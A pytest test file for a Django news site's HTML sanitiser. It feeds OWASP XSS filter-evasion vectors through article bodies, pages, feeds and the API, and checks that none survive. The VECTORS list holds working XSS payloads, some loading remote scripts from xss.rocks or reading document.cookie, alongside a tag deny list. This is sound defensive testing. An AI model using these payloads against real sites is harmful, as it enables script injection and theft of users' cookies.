"""OWASP XSS filter evasion vectors through the body's sanitiser: none survives on the page, in feeds or the API."""

import json
import re

import lxml.etree
import lxml.html
import pytest
from django.test import Client

from articles.models import Article

pytestmark = pytest.mark.django_db

# From the OWASP XSS Filter Evasion Cheat Sheet (a selection of its families:
# script tags, event handlers, URL schemes with encodings and whitespace,
# malformed tags, SVG/MathML, styles, meta/base/iframe/object, comments).
VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">Click Me!</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">Click Me</a>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<p><a href=\" javascript:alert(1)\">spaced</a></p>",
    "<details open ontoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "link", "meta",
    "base", "img", "input", "form", "button", "details", "table", "div", "body", "title", "textarea", "xmp",
}
DANGEROUS_URL = re.compile(r"^\s*(?:javascript|vbscript|data):", re.IGNORECASE)


def assert_harmless(fragment_html, where):
    """No forbidden element, no event handler or style, no script URL in the HTML fragment."""
    if not fragment_html.strip():
        return
    root = lxml.html.fragment_fromstring(fragment_html, create_parent="div")
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments are inert
        if element is not root:
            assert element.tag.lower() not in FORBIDDEN_TAGS, f"{where}: <{element.tag}> survived"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{where}: {name}= survived"
            assert name.lower() not in {"style", "src", "dynsrc", "background", "formaction", "xlink:href"}, (
                f"{where}: {name}= survived"
            )
            if name.lower() == "href":
                assert not DANGEROUS_URL.match(value), f"{where}: href={value!r} survived"


@pytest.fixture
def xss_article(make_article):
    body = "<p>بند نخست.</p>" + "".join(f"<p>{vector}</p>" for vector in VECTORS) + "<p>بند آخر.</p>"
    article = make_article(headline="خبر آزمون نفوذ", body=body, lead="لید <script>alert(1)</script>")
    article.refresh_from_db()
    return article


def test_stored_body_is_sanitised(xss_article):
    assert_harmless(xss_article.body, "stored body")
    assert "<script" not in xss_article.body.lower()
    # The search key is made from text, not tags.
    assert "onerror" not in xss_article.body_key and "src" not in xss_article.body_key and "<" not in xss_article.body_key


def test_each_vector_alone_is_sanitised(make_article):
    for vector in VECTORS:
        article = make_article(body=vector)
        assert_harmless(article.body, vector)
        assert_harmless(str(article.body_html), vector)


def test_a_body_written_around_save_is_sanitised_on_the_way_out(make_article):
    article = make_article()
    Article.objects.filter(pk=article.pk).update(body="".join(VECTORS))
    article.refresh_from_db()
    assert_harmless(str(article.body_html), "body_html of an unsanitised row")


def test_no_vector_survives_on_the_page(client, xss_article):
    response = client.get(xss_article.get_absolute_url())
    assert response.status_code == 200
    document = lxml.html.fromstring(response.content)
    body = document.find_class("article-body")[0]
    assert_harmless("".join(lxml.html.tostring(child, encoding="unicode") for child in body), "page")
    assert "بند آخر." in body.text_content()
    assert not document.xpath("//script[not(@type='application/ld+json')][not(@src)]")


@pytest.mark.parametrize("path", ["/feeds/rss/", "/feeds/atom/"])
def test_no_vector_survives_in_feeds(client, xss_article, path):
    response = client.get(path)
    assert response.status_code == 200
    tree = lxml.etree.fromstring(response.content)
    texts = [el.text or "" for el in tree.iter() if isinstance(el.tag, str) and el.tag.split("}")[-1] in {
        "description", "summary", "content", "encoded", "title"}]
    assert texts
    for text in texts:
        assert_harmless(text, path)


def test_no_vector_survives_in_the_api(xss_article):
    api = Client()
    response = api.get(f"/api/v1/articles/{xss_article.pk}/?show-fields=body,lead")
    assert response.status_code == 200
    data = json.loads(response.content)
    assert_harmless(data["body"], "api body")
    assert "<script" not in json.dumps(data, ensure_ascii=False).lower()
